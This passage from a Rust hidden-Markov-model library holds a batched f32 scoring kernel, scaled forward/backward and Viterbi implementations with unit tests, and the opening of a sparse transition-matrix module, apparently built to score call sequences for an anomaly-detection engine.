    background: Vec<f32>,
    tcol_start: Vec<usize>,
    trow: Vec<u32>,
    tdev: Vec<f32>,
    dense_idx: Vec<u32>,
    dense_val: Vec<f32>,
    bt: Vec<f32>,
}

impl F32Kernel {
    /// Narrows `sp` (and `hmm`'s π) to f32. The decomposition is copied
    /// structurally — backgrounds, CSC deviations, dense-fallback rows and
    /// the symbol-major emission transpose — so the f32 recursion follows
    /// the identical data path as the f64 one, just in single precision.
    pub fn from_sparse(hmm: &Hmm, sp: &SparseTransitions) -> F32Kernel {
        debug_assert_eq!(hmm.n_states(), sp.n_states());
        F32Kernel {
            n: sp.n,
            pi: hmm.pi.iter().map(|&x| x as f32).collect(),
            background: sp.background.iter().map(|&x| x as f32).collect(),
            tcol_start: sp.tcol_start.clone(),
            trow: sp.trow.clone(),
            tdev: sp.tdev.iter().map(|&x| x as f32).collect(),
            dense_idx: sp.dense_idx.clone(),
            dense_val: sp.dense_val.iter().map(|&x| x as f32).collect(),
            bt: sp.bt.iter().map(|&x| x as f32).collect(),
        }
    }

    /// Number of states.
    pub fn n_states(&self) -> usize {
        self.n
    }

    /// f32 analogue of [`score_windows_batch`]: same lane-major recursion,
    /// single-precision state, with the per-step `ln` computed by the
    /// branchless [`fast_ln_f32`] polynomial. Scores (and captured steps)
    /// are the f64 widenings of those f32 step terms, accumulated in
    /// f64 — so steps still resum bit-identically to the score, and the
    /// per-lane result is independent of the batch width (k = 1 scores a
    /// window bitwise the same as any k). **Not** flag-safe on its own:
    /// use via [`Precision::F32Verified`] so near-threshold windows
    /// re-score in f64.
    pub fn score_windows_batch(&self, windows: &[&[usize]], want_steps: bool) -> BatchScores {
        // Lane-local recursion: sub-batching an oversized call is exact.
        if windows.len() > LANE_CAP {
            let mut scores = Vec::with_capacity(windows.len());
            let mut steps = want_steps.then(Vec::new);
            for chunk in windows.chunks(LANE_CAP) {
                let part = self.score_windows_batch(chunk, want_steps);
                scores.extend(part.scores);
                if let (Some(all), Some(p)) = (steps.as_mut(), part.steps) {
                    all.extend(p);
                }
            }
            return BatchScores { scores, steps };
        }
        // See [`score_windows_batch`]: width-only dispatch, identical
        // per-lane op sequence either way.
        #[cfg(target_arch = "x86_64")]
        if std::arch::is_x86_feature_detected!("avx2") {
            // SAFETY: only reached when the running CPU reports AVX2.
            return unsafe { self.score_batch_avx2(windows, want_steps) };
        }
        self.score_batch(windows, want_steps)
    }

    /// AVX2-codegen clone of [`F32Kernel::score_batch`].
    #[cfg(target_arch = "x86_64")]
    #[target_feature(enable = "avx2")]
    unsafe fn score_batch_avx2(&self, windows: &[&[usize]], want_steps: bool) -> BatchScores {
        self.score_batch(windows, want_steps)
    }

    #[inline(always)]
    fn score_batch(&self, windows: &[&[usize]], want_steps: bool) -> BatchScores {
        let k = windows.len();
        let t_len = windows.first().map_or(0, |w| w.len());
        assert!(
            windows.iter().all(|w| w.len() == t_len),
            "batched windows must share a length"
        );
        let mut scores = vec![0.0f64; k];
        let mut steps: Vec<Vec<f64>> = if want_steps {
            vec![Vec::with_capacity(t_len); k]
        } else {
            Vec::new()
        };
        if k == 0 || t_len == 0 {
            return BatchScores {
                scores,
                steps: want_steps.then_some(steps),
            };
        }
        let n = self.n;
        // Padded to whole 256-bit blocks (8 × f32); see `score_batch_f64`
        // for the padding argument (pad lanes stay exactly zero).
        let kp = k.div_ceil(8) * 8;
        let mut prev = vec![0.0f32; n * kp];
        let mut cur = vec![0.0f32; n * kp];
        let mut sum = vec![0.0f32; kp];
        let mut scl = vec![0.0f32; kp];
        let mut base = vec![0.0f32; kp];
        let mut alive = vec![true; k];
        let mut bv = vec![0.0f32; n * kp];

        let mut lnb = vec![0.0f32; k];
        let settle = |sum: &[f32],
                      lnb: &mut [f32],
                      scl: &mut [f32],
                      alive: &mut [bool],
                      scores: &mut [f64],
                      steps: &mut [Vec<f64>]| {
            // Branchless lane sweep first — `fast_ln_f32` is all selects,
            // so this loop packs into vector lanes. Values for dead or
            // impossible lanes are junk and masked out just below.
            for ((lb, sc), &s) in lnb.iter_mut().zip(scl.iter_mut()).zip(sum) {
                *lb = fast_ln_f32(s);
                *sc = 1.0 / s;
            }
            for (l, &s) in sum.iter().enumerate() {
                if !alive[l] {
                    scl[l] = 0.0;
                    continue;
                }
                if s > 0.0 {
                    // Widen the f32 step to f64 and accumulate in f64:
                    // captured steps then resum bitwise to the score.
                    let step = f64::from(lnb[l]);
                    scores[l] += step;
                    if want_steps {
                        steps[l].push(step);
                    }
                } else {
                    alive[l] = false;
                    scores[l] = f64::NEG_INFINITY;
                    scl[l] = 0.0;
                    if want_steps {
                        steps[l].push(f64::NEG_INFINITY);
                    }
                }
            }
        };

        gather_emission(&self.bt, n, kp, windows, 0, &mut bv);
        for (i, &pi_i) in self.pi.iter().enumerate() {
            let row = &mut prev[i * kp..(i + 1) * kp];
            let b = &bv[i * kp..(i + 1) * kp];
            for ((r, &bb), s) in row.iter_mut().zip(b).zip(sum.iter_mut()) {
                let p = pi_i * bb;
                *r = p;
                *s += p;
            }
        }
        settle(
            &sum[..k],
            &mut lnb,
            &mut scl[..k],
            &mut alive,
            &mut scores,
            &mut steps,
        );
        for i in 0..n {
            let row = &mut prev[i * kp..(i + 1) * kp];
            for (r, &s) in row.iter_mut().zip(&scl) {
                *r *= s;
            }
        }

        for t in 1..t_len {
            base.fill(0.0);
            for (i, &bg) in self.background.iter().enumerate() {
                let row = &prev[i * kp..(i + 1) * kp];
                for (b, &r) in base.iter_mut().zip(row) {
                    *b += r * bg;
                }
            }
            for j in 0..n {
                let (s, e) = (self.tcol_start[j], self.tcol_start[j + 1]);
                let out = &mut cur[j * kp..(j + 1) * kp];
                out.copy_from_slice(&base);
                for (i, d) in self.trow[s..e].iter().zip(&self.tdev[s..e]) {
                    let src = *i as usize;
                    let row = &prev[src * kp..(src + 1) * kp];
                    for (o, &r) in out.iter_mut().zip(row) {
                        *o += r * d;
                    }
                }
            }
            for (kd, &i) in self.dense_idx.iter().enumerate() {
                let src = i as usize;
                let arow = &prev[src * kp..(src + 1) * kp];
                let vrow = &self.dense_val[kd * n..(kd + 1) * n];
                for (j, &v) in vrow.iter().enumerate() {
                    let out = &mut cur[j * kp..(j + 1) * kp];
                    for (o, &a) in out.iter_mut().zip(arow) {
                        *o += a * v;
                    }
                }
            }
            sum.fill(0.0);
            gather_emission(&self.bt, n, kp, windows, t, &mut bv);
            for j in 0..n {
                let row = &mut cur[j * kp..(j + 1) * kp];
                let b = &bv[j * kp..(j + 1) * kp];
                for ((r, &bb), s) in row.iter_mut().zip(b).zip(sum.iter_mut()) {
                    let c = *r * bb;
                    *r = c;
                    *s += c;
                }
            }
            settle(
                &sum[..k],
                &mut lnb,
                &mut scl[..k],
                &mut alive,
                &mut scores,
                &mut steps,
            );
            for j in 0..n {
                let row = &mut cur[j * kp..(j + 1) * kp];
                for (r, &s) in row.iter_mut().zip(&scl) {
                    *r *= s;
                }
            }
            std::mem::swap(&mut prev, &mut cur);
        }

        BatchScores {
            scores,
            steps: want_steps.then_some(steps),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sparse::{log_likelihood_sparse, step_scores_sparse, SparseConfig};

    fn smoothed(n: usize, m: usize, seed: u64) -> Hmm {
        let mut hmm = Hmm::random(n, m, seed);
        hmm.smooth(1e-4);
        hmm
    }

    #[test]
    fn batch_lanes_are_bit_identical_to_the_scalar_kernel() {
        for seed in 0..4 {
            let hmm = smoothed(9, 5, seed);
            let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
            let trace = hmm.sample(200, seed + 50);
            for k in [1usize, 3, 8, 32] {
                let windows: Vec<&[usize]> = (0..k).map(|w| &trace[w * 5..w * 5 + 15]).collect();
                let batch = score_windows_batch(&hmm, &sp, &windows, true);
                for (l, w) in windows.iter().enumerate() {
                    // Layout change only: every lane reproduces the scalar
                    // rolling score bit-for-bit, at every batch width.
                    assert_eq!(batch.scores[l], log_likelihood_sparse(&hmm, &sp, w));
                    let scalar = step_scores_sparse(&hmm, &sp, w);
                    assert_eq!(batch.steps.as_ref().unwrap()[l], scalar.steps);
                }
            }
        }
    }

    #[test]
    fn dead_lanes_score_neg_infinity_without_perturbing_live_lanes() {
        // Structural zeros: emitting symbol 1 from the reachable chain is
        // impossible, so that lane must die while its neighbors stay exact.
        let hmm = Hmm::new(
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![vec![1.0, 0.0], vec![1.0, 0.0]],
            vec![1.0, 0.0],
        )
        .unwrap();
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let live = vec![0usize; 6];
        let dead = vec![0, 0, 1, 0, 0, 0];
        let windows: Vec<&[usize]> = vec![&live, &dead, &live];
        let batch = score_windows_batch(&hmm, &sp, &windows, true);
        assert_eq!(batch.scores[1], f64::NEG_INFINITY);
        assert_eq!(batch.scores[0], log_likelihood_sparse(&hmm, &sp, &live));
        assert_eq!(batch.scores[0], batch.scores[2]);
        // The dead lane's steps end at the vanishing point, scalar-style.
        let steps = batch.steps.as_ref().unwrap();
        assert_eq!(steps[1].len(), 3);
        assert_eq!(*steps[1].last().unwrap(), f64::NEG_INFINITY);
        assert!(batch.scores[0].is_finite());
    }

    #[test]
    fn f32_scores_track_f64_and_are_batch_width_independent() {
        for seed in 0..4 {
            let hmm = smoothed(12, 6, seed);
            let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
            let fk = F32Kernel::from_sparse(&hmm, &sp);
            let trace = hmm.sample(120, seed + 9);
            let windows: Vec<&[usize]> = (0..8).map(|w| &trace[w * 10..w * 10 + 15]).collect();
            let wide = fk.score_windows_batch(&windows, true);
            for (l, w) in windows.iter().enumerate() {
                let narrow = fk.score_windows_batch(&[w], false);
                assert_eq!(narrow.scores[0], wide.scores[l], "lane {l} k-dependent");
                let exact = log_likelihood_sparse(&hmm, &sp, w);
                assert!(
                    (wide.scores[l] - exact).abs() < 1e-2,
                    "f32 drifted: {} vs {exact}",
                    wide.scores[l]
                );
                // Steps resum bitwise to the score (forensics invariant).
                let resummed = wide.steps.as_ref().unwrap()[l]
                    .iter()
                    .fold(0.0f64, |acc, s| acc + s);
                assert_eq!(resummed, wide.scores[l]);
            }
        }
    }

    #[test]
    fn empty_batches_and_empty_windows_are_well_defined() {
        let hmm = smoothed(5, 4, 3);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let none: Vec<&[usize]> = Vec::new();
        assert!(score_windows_batch(&hmm, &sp, &none, false)
            .scores
            .is_empty());
        let empty: Vec<&[usize]> = vec![&[], &[]];
        let batch = score_windows_batch(&hmm, &sp, &empty, true);
        assert_eq!(batch.scores, vec![0.0, 0.0]);
        assert!(batch.steps.unwrap().iter().all(Vec::is_empty));
    }

    #[test]
    fn precision_labels_and_defaults() {
        assert_eq!(Precision::default(), Precision::F64);
        assert_eq!(Precision::F64.label(), "f64");
        let p = Precision::f32_verified();
        assert_eq!(p.label(), "f32-verified");
        match p {
            Precision::F32Verified { guard_band } => {
                assert_eq!(guard_band, Precision::DEFAULT_GUARD_BAND)
            }
            _ => unreachable!(),
        }
    }
}
