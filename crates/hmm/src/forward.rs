//! The evaluation problem: scaled forward/backward passes (Rabiner §V).
//!
//! The Detection Engine scores every n-length call sequence with
//! `log P(cs | λ)` via the forward algorithm; scaling keeps the recursion
//! stable for long sequences.

use crate::model::Hmm;

/// Output of the scaled forward pass.
#[derive(Debug, Clone)]
pub struct ForwardPass {
    /// Scaled forward variables, `alpha[t][i]`.
    pub alpha: Vec<Vec<f64>>,
    /// Per-step scale factors `c_t` (inverse of the column sums).
    pub scale: Vec<f64>,
    /// `log P(O | λ)`; `-inf` when the sequence is impossible.
    pub log_likelihood: f64,
}

/// `cur[j] += prev_i * row[j]`, unrolled by 8. The per-element operation is
/// exactly the scalar axpy the recursions always performed (independent
/// elements, no reassociation), so results stay bit-identical while the
/// chunked shape gives the autovectorizer straight-line packed
/// multiply-adds (DESIGN.md §15 records the `--emit=asm` inspection).
#[inline]
pub(crate) fn axpy_row(cur: &mut [f64], row: &[f64], prev_i: f64) {
    debug_assert_eq!(cur.len(), row.len());
    let mut cur_c = cur.chunks_exact_mut(8);
    let mut row_c = row.chunks_exact(8);
    for (c8, a8) in cur_c.by_ref().zip(row_c.by_ref()) {
        for (c, a_ij) in c8.iter_mut().zip(a8) {
            *c += prev_i * a_ij;
        }
    }
    for (c, a_ij) in cur_c.into_remainder().iter_mut().zip(row_c.remainder()) {
        *c += prev_i * a_ij;
    }
}

/// Runs the scaled forward algorithm. Panics in debug builds if symbols are
/// out of range; callers validate with [`Hmm::check_observations`].
#[allow(clippy::needless_range_loop)] // dense recursions index several arrays in lock-step
pub fn forward(hmm: &Hmm, obs: &[usize]) -> ForwardPass {
    let n = hmm.n_states();
    let t_len = obs.len();
    let mut alpha = vec![vec![0.0; n]; t_len];
    let mut scale = vec![0.0; t_len];
    let mut log_likelihood = 0.0f64;

    if t_len == 0 {
        return ForwardPass {
            alpha,
            scale,
            log_likelihood: 0.0,
        };
    }

    // t = 0
    let mut sum = 0.0;
    for i in 0..n {
        alpha[0][i] = hmm.pi[i] * hmm.b(i, obs[0]);
        sum += alpha[0][i];
    }
    if sum <= 0.0 {
        return impossible(alpha, scale);
    }
    scale[0] = 1.0 / sum;
    for v in &mut alpha[0] {
        *v *= scale[0];
    }
    log_likelihood += sum.ln();

    // t > 0. Accumulating with i outermost walks A row-by-row, which is
    // sequential in the flat row-major layout.
    for t in 1..t_len {
        let (prev, cur) = {
            let (a, b) = alpha.split_at_mut(t);
            (&a[t - 1], &mut b[0])
        };
        for i in 0..n {
            let prev_i = prev[i];
            if prev_i == 0.0 {
                continue;
            }
            axpy_row(cur, hmm.a_row(i), prev_i);
        }
        let mut sum = 0.0;
        for (j, c) in cur.iter_mut().enumerate() {
            *c *= hmm.b(j, obs[t]);
            sum += *c;
        }
        if sum <= 0.0 {
            return impossible(alpha, scale);
        }
        scale[t] = 1.0 / sum;
        for v in cur.iter_mut() {
            *v *= scale[t];
        }
        log_likelihood += sum.ln();
    }

    ForwardPass {
        alpha,
        scale,
        log_likelihood,
    }
}

fn impossible(alpha: Vec<Vec<f64>>, scale: Vec<f64>) -> ForwardPass {
    ForwardPass {
        alpha,
        scale,
        log_likelihood: f64::NEG_INFINITY,
    }
}

/// Per-step decomposition of a scaled forward pass's log-likelihood.
///
/// `steps[t]` is `ln Σ_j α̂_t(j)` before rescaling — exactly
/// `ln P(o_t | o_0..o_{t-1}, λ)`, the conditional log-probability of the
/// t-th observation given its prefix. `log_likelihood` accumulates the
/// identical `sum.ln()` terms in the identical order as [`forward`], so the
/// total is bit-for-bit the score the detection path already computed; the
/// steps are the same pass's factors, not a second scoring run.
#[derive(Debug, Clone, PartialEq)]
pub struct StepScores {
    /// Per-observation conditional log-probabilities, in sequence order.
    /// When the sequence is impossible the vector ends with the
    /// `-inf` step at which probability mass vanished.
    pub steps: Vec<f64>,
    /// `log P(O | λ)`; `-inf` when the sequence is impossible.
    pub log_likelihood: f64,
}

/// Dense-kernel attribution: the per-step factors of the same scaled
/// forward recursion as [`forward`], using two rolling state vectors. The
/// arithmetic (operation order included) matches [`forward`] exactly, so
/// `log_likelihood` is bit-identical to `forward(hmm, obs).log_likelihood`.
#[allow(clippy::needless_range_loop)] // dense recursions index several arrays in lock-step
pub fn step_scores(hmm: &Hmm, obs: &[usize]) -> StepScores {
    let n = hmm.n_states();
    let t_len = obs.len();
    let mut steps = Vec::with_capacity(t_len);
    let mut log_likelihood = 0.0f64;
    if t_len == 0 {
        return StepScores {
            steps,
            log_likelihood: 0.0,
        };
    }

    let mut prev = vec![0.0f64; n];
    let mut cur = vec![0.0f64; n];

    // t = 0
    let mut sum = 0.0;
    for i in 0..n {
        prev[i] = hmm.pi[i] * hmm.b(i, obs[0]);
        sum += prev[i];
    }
    if sum <= 0.0 {
        steps.push(f64::NEG_INFINITY);
        return StepScores {
            steps,
            log_likelihood: f64::NEG_INFINITY,
        };
    }
    let scale = 1.0 / sum;
    for v in &mut prev {
        *v *= scale;
    }
    let step = sum.ln();
    log_likelihood += step;
    steps.push(step);

    // t > 0 — same i-outermost row accumulation as `forward`.
    for t in 1..t_len {
        cur.iter_mut().for_each(|v| *v = 0.0);
        for i in 0..n {
            let prev_i = prev[i];
            if prev_i == 0.0 {
                continue;
            }
            axpy_row(&mut cur, hmm.a_row(i), prev_i);
        }
        let mut sum = 0.0;
        for (j, c) in cur.iter_mut().enumerate() {
            *c *= hmm.b(j, obs[t]);
            sum += *c;
        }
        if sum <= 0.0 {
            steps.push(f64::NEG_INFINITY);
            return StepScores {
                steps,
                log_likelihood: f64::NEG_INFINITY,
            };
        }
        let scale = 1.0 / sum;
        for v in cur.iter_mut() {
            *v *= scale;
        }
        let step = sum.ln();
        log_likelihood += step;
        steps.push(step);
        std::mem::swap(&mut prev, &mut cur);
    }

    StepScores {
        steps,
        log_likelihood,
    }
}

/// Convenience: `log P(O | λ)`.
pub fn log_likelihood(hmm: &Hmm, obs: &[usize]) -> f64 {
    forward(hmm, obs).log_likelihood
}

/// Per-symbol normalized log-likelihood, comparable across sequence lengths.
pub fn normalized_log_likelihood(hmm: &Hmm, obs: &[usize]) -> f64 {
    if obs.is_empty() {
        return 0.0;
    }
    log_likelihood(hmm, obs) / obs.len() as f64
}

/// Runs the scaled backward pass using the forward pass's scale factors.
/// Returns `beta[t][i]`.
#[allow(clippy::needless_range_loop)] // dense recursions index several arrays in lock-step
pub fn backward(hmm: &Hmm, obs: &[usize], scale: &[f64]) -> Vec<Vec<f64>> {
    let n = hmm.n_states();
    let t_len = obs.len();
    let mut beta = vec![vec![0.0; n]; t_len];
    if t_len == 0 {
        return beta;
    }
    for i in 0..n {
        beta[t_len - 1][i] = scale[t_len - 1];
    }
    // Hoisting b_j(o_{t+1})·beta_{t+1}(j) out of the i-loop leaves the
    // inner product a pure row sweep over A.
    let mut bb = vec![0.0; n];
    for t in (0..t_len - 1).rev() {
        let (head, tail) = beta.split_at_mut(t + 1);
        let next = &tail[0];
        let cur = &mut head[t];
        for j in 0..n {
            bb[j] = hmm.b(j, obs[t + 1]) * next[j];
        }
        for i in 0..n {
            let row = hmm.a_row(i);
            let mut acc = 0.0;
            for (a_ij, b_beta) in row.iter().zip(&bb) {
                acc += a_ij * b_beta;
            }
            cur[i] = acc * scale[t];
        }
    }
    beta
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A 2-state, 2-symbol model with hand-computable likelihoods.
    fn toy() -> Hmm {
        Hmm::new(
            vec![vec![0.7, 0.3], vec![0.4, 0.6]],
            vec![vec![0.9, 0.1], vec![0.2, 0.8]],
            vec![0.6, 0.4],
        )
        .unwrap()
    }

    #[test]
    fn single_observation_matches_hand_computation() {
        let hmm = toy();
        // P(O=0) = 0.6*0.9 + 0.4*0.2 = 0.62
        let ll = log_likelihood(&hmm, &[0]);
        assert!((ll - 0.62f64.ln()).abs() < 1e-12);
    }

    #[test]
    fn two_observations_match_enumeration() {
        let hmm = toy();
        // Enumerate all state paths for O = [0, 1].
        let mut p = 0.0;
        for s0 in 0..2 {
            for s1 in 0..2 {
                p += hmm.pi[s0] * hmm.b(s0, 0) * hmm.a(s0, s1) * hmm.b(s1, 1);
            }
        }
        let ll = log_likelihood(&hmm, &[0, 1]);
        assert!((ll - p.ln()).abs() < 1e-12);
    }

    #[test]
    fn impossible_sequence_is_neg_infinity() {
        let hmm = Hmm::new(
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![vec![1.0, 0.0], vec![1.0, 0.0]], // symbol 1 never emitted
            vec![1.0, 0.0],
        )
        .unwrap();
        assert_eq!(log_likelihood(&hmm, &[0, 1]), f64::NEG_INFINITY);
    }

    #[test]
    fn scaling_handles_long_sequences() {
        let hmm = toy();
        let obs: Vec<usize> = (0..10_000).map(|i| i % 2).collect();
        let ll = log_likelihood(&hmm, &obs);
        assert!(ll.is_finite());
        assert!(ll < 0.0);
    }

    #[test]
    #[allow(clippy::needless_range_loop)]
    fn forward_backward_consistency() {
        // Σ_i alpha_t(i) * beta_t(i) must be constant across t (equal to
        // c_t-normalized likelihood) — a standard sanity identity.
        let hmm = toy();
        let obs = [0, 1, 1, 0, 1];
        let fp = forward(&hmm, &obs);
        let beta = backward(&hmm, &obs, &fp.scale);
        let mut ref_val = None;
        for t in 0..obs.len() {
            let v: f64 = (0..2)
                .map(|i| fp.alpha[t][i] * beta[t][i] / fp.scale[t])
                .sum();
            match ref_val {
                None => ref_val = Some(v),
                Some(r) => assert!((v - r).abs() < 1e-9, "t={t}: {v} vs {r}"),
            }
        }
    }

    #[test]
    fn empty_sequence_scores_zero() {
        assert_eq!(log_likelihood(&toy(), &[]), 0.0);
    }

    #[test]
    fn step_scores_decompose_the_forward_score_bitwise() {
        for seed in 0..5 {
            let mut hmm = Hmm::random(6, 4, seed);
            hmm.smooth(1e-4);
            let obs = hmm.sample(60, seed + 100);
            let scores = step_scores(&hmm, &obs);
            // Identical op sequence to `forward`: total and re-summed
            // steps must both reproduce the score bit-for-bit.
            assert_eq!(scores.log_likelihood, forward(&hmm, &obs).log_likelihood);
            assert_eq!(scores.steps.len(), obs.len());
            let resummed = scores.steps.iter().fold(0.0f64, |acc, s| acc + s);
            assert_eq!(resummed, scores.log_likelihood);
        }
        let empty = step_scores(&toy(), &[]);
        assert_eq!(empty.log_likelihood, 0.0);
        assert!(empty.steps.is_empty());
    }

    #[test]
    fn step_scores_mark_the_impossible_step() {
        let hmm = Hmm::new(
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![vec![1.0, 0.0], vec![1.0, 0.0]], // symbol 1 never emitted
            vec![1.0, 0.0],
        )
        .unwrap();
        let scores = step_scores(&hmm, &[0, 1, 0]);
        assert_eq!(scores.log_likelihood, f64::NEG_INFINITY);
        // Step 0 is fine; step 1 is where mass vanished; the tail is
        // unscored.
        assert_eq!(scores.steps.len(), 2);
        assert!(scores.steps[0].is_finite());
        assert_eq!(scores.steps[1], f64::NEG_INFINITY);
    }

    #[test]
    fn normalized_ll_comparable_across_lengths() {
        let hmm = toy();
        let short = hmm.sample(10, 3);
        let long = hmm.sample(1000, 3);
        let a = normalized_log_likelihood(&hmm, &short);
        let b = normalized_log_likelihood(&hmm, &long);
        // Same generating model: normalized scores are in the same ballpark.
        assert!((a - b).abs() < 0.5, "{a} vs {b}");
    }
}
