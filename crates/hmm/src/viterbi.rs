//! The decoding problem: Viterbi in log space.

use crate::model::Hmm;

/// Most likely hidden-state path for `obs`, with its log probability.
/// Returns an empty path for empty input.
#[allow(clippy::needless_range_loop)] // dense recursions index several arrays in lock-step
pub fn viterbi(hmm: &Hmm, obs: &[usize]) -> (Vec<usize>, f64) {
    let n = hmm.n_states();
    let t_len = obs.len();
    if t_len == 0 {
        return (Vec::new(), 0.0);
    }
    let ln = |x: f64| if x > 0.0 { x.ln() } else { f64::NEG_INFINITY };

    let mut delta = vec![vec![f64::NEG_INFINITY; n]; t_len];
    let mut psi = vec![vec![0usize; n]; t_len];
    for i in 0..n {
        delta[0][i] = ln(hmm.pi[i]) + ln(hmm.b(i, obs[0]));
    }
    // Maximizing with i outermost walks A row-by-row (sequential in the
    // flat row-major layout), tracking the running best per destination j.
    for t in 1..t_len {
        let (prev, cur) = {
            let (head, tail) = delta.split_at_mut(t);
            (&head[t - 1], &mut tail[0])
        };
        let arg = &mut psi[t];
        for i in 0..n {
            let d = prev[i];
            if d == f64::NEG_INFINITY {
                continue;
            }
            let row = hmm.a_row(i);
            for j in 0..n {
                let v = d + ln(row[j]);
                if v > cur[j] {
                    cur[j] = v;
                    arg[j] = i;
                }
            }
        }
        for j in 0..n {
            cur[j] += ln(hmm.b(j, obs[t]));
        }
    }
    let (mut state, mut best) = (0usize, f64::NEG_INFINITY);
    for i in 0..n {
        if delta[t_len - 1][i] > best {
            best = delta[t_len - 1][i];
            state = i;
        }
    }
    let mut path = vec![0usize; t_len];
    path[t_len - 1] = state;
    for t in (1..t_len).rev() {
        state = psi[t][state];
        path[t - 1] = state;
    }
    (path, best)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_deterministic_chain() {
        // State 0 emits only symbol 0, state 1 only symbol 1; chain flips.
        let hmm = Hmm::new(
            vec![vec![0.1, 0.9], vec![0.9, 0.1]],
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![1.0, 0.0],
        )
        .unwrap();
        let (path, lp) = viterbi(&hmm, &[0, 1, 0, 1]);
        assert_eq!(path, vec![0, 1, 0, 1]);
        assert!(lp.is_finite());
    }

    #[test]
    fn viterbi_never_exceeds_total_likelihood() {
        let hmm = Hmm::random(4, 5, 11);
        let obs = hmm.sample(30, 13);
        let (_, best_path_lp) = viterbi(&hmm, &obs);
        let total = crate::forward::log_likelihood(&hmm, &obs);
        assert!(best_path_lp <= total + 1e-9, "{best_path_lp} vs {total}");
    }

    #[test]
    fn empty_input() {
        let hmm = Hmm::uniform(2, 2);
        let (path, lp) = viterbi(&hmm, &[]);
        assert!(path.is_empty());
        assert_eq!(lp, 0.0);
    }
}
