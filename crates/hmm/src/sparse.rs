//! Sparse transition kernel: CSR scoring for structurally sparse models.
//!
//! AD-PROM's HMM is initialized from the pCTM, whose rows follow call-graph
//! edges — most of an N×N transition matrix carries no trained signal, yet
//! the dense forward/Viterbi/Baum–Welch recursions walk every row in full
//! (O(N²) per event). This module drops the per-event cost to O(nnz + N).
//!
//! # Background + deviation decomposition
//!
//! [`Hmm::smooth`] (applied by the Profile Constructor and after every
//! re-estimation step) maps every originally-zero entry of a row to the
//! *same* floor value `floor / s` — so a smoothed row is
//!
//! ```text
//! a_ij = c_i + d_ij        with  d_ij ≥ 0, non-zero only on graph edges
//! ```
//!
//! where `c_i` is the row's **background** (its minimum) and `d_ij` its
//! per-edge **deviation**. The forward step then factors exactly:
//!
//! ```text
//! (αᵀA)_j = Σ_i α_i·d_ij  +  Σ_i α_i·c_i
//!            └─ CSR scatter ─┘   └─ scalar broadcast ─┘
//! ```
//!
//! one O(nnz) scatter plus one O(N) broadcast — **exact** (no epsilon
//! needed) even though the smoothed matrix is dense in storage. Rows whose
//! minimum is a true zero degenerate to plain CSR; rows that are genuinely
//! dense (deviation density above [`SparseConfig::max_density`]) fall back
//! to storing every entry with a zero background, so the kernel never
//! performs worse than the dense sweep by more than the O(N) broadcast.
//!
//! With [`SparseConfig::epsilon`] > 0, entries within `epsilon` of the row
//! minimum are folded into the background (set to the fold set's mean,
//! preserving the row sum); the resulting model differs from the original
//! by at most [`SparseStats::max_fold_deviation`] per entry. `epsilon = 0`
//! keeps the kernel an exact reparametrization of the input matrix.
//!
//! # Beam pruning
//!
//! [`forward_beam`] additionally zeroes low-mass α entries after every
//! scaling step (top-k and/or mass-threshold), and tracks a **sound upper
//! bound** on the log-likelihood it may have lost. With scaled error mass
//! `Ê_t` (exact-minus-pruned α, in the pruned chain's units) and pruned
//! mass `p_t` at step `t`:
//!
//! ```text
//! Ê_{t+1} ≤ (Ê_t + p_t) · max_j b_j(o_{t+1}) / c_{t+1}
//! log P_exact − log P_pruned ≤ ln(1 + Ê_T)
//! ```
//!
//! The bound follows from entrywise monotonicity of the forward recursion
//! (row-stochastic A, non-negative α): pruning only removes mass, and a
//! removed state can re-inject at most `bmax/c` of its mass per step. The
//! naive bound `−Σ ln(1 − p_t)` is *not* sound — a pruned state may be the
//! sole emitter of a later symbol — which is why the recursion carries
//! `bmax` explicitly.

use crate::forward::{ForwardPass, StepScores};
use crate::model::Hmm;

/// Construction parameters for [`SparseTransitions`].
#[derive(Debug, Clone, Copy)]
pub struct SparseConfig {
    /// Entries within `epsilon` of their row's minimum are folded into the
    /// row background (replaced by the fold set's mean). `0.0` (the
    /// default) folds only exact duplicates of the minimum — the kernel is
    /// then an exact reparametrization of the matrix.
    pub epsilon: f64,
    /// Rows whose deviation density `nnz/n` exceeds this threshold are
    /// stored dense (every entry explicit, background 0) so the scatter
    /// never degenerates into a slower-than-dense gather.
    pub max_density: f64,
}

impl Default for SparseConfig {
    fn default() -> SparseConfig {
        SparseConfig {
            epsilon: 0.0,
            max_density: 0.75,
        }
    }
}

/// Construction accounting for a [`SparseTransitions`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SparseStats {
    /// Stored (deviation) entries across all rows.
    pub nnz: usize,
    /// Rows stored dense because their deviation density exceeded
    /// [`SparseConfig::max_density`].
    pub dense_rows: usize,
    /// `nnz / n²` — the fraction of the matrix the scatter kernels touch.
    pub density: f64,
    /// Largest `|a_ij − background_i|` folded into a background. `0.0`
    /// when built with `epsilon = 0`; otherwise bounds the per-entry
    /// perturbation of the represented matrix.
    pub max_fold_deviation: f64,
}

/// CSR view of an [`Hmm`] transition matrix under the background +
/// deviation decomposition (see the module docs). Borrow-free: safe to
/// share across worker threads behind an `Arc`.
#[derive(Debug, Clone)]
pub struct SparseTransitions {
    pub(crate) n: usize,
    /// CSR row pointers into `col`/`val`/`dev`/`log_val` (length `n + 1`).
    pub(crate) row_start: Vec<usize>,
    /// Destination state of each stored entry.
    pub(crate) col: Vec<u32>,
    /// Full transition probability `a_ij` of each stored entry.
    pub(crate) val: Vec<f64>,
    /// Deviation `a_ij − background_i` of each stored entry.
    pub(crate) dev: Vec<f64>,
    /// `ln a_ij` of each stored entry (for Viterbi).
    pub(crate) log_val: Vec<f64>,
    /// Per-row background `c_i` (the folded minimum; 0 for dense rows and
    /// rows whose minimum is a true zero).
    pub(crate) background: Vec<f64>,
    /// `ln c_i` (`-inf` where the background is zero).
    pub(crate) log_background: Vec<f64>,
    /// Transposed (CSC) column pointers into `trow`/`tdev` (length `n + 1`).
    /// Within a column, sources are stored in ascending row order. Dense
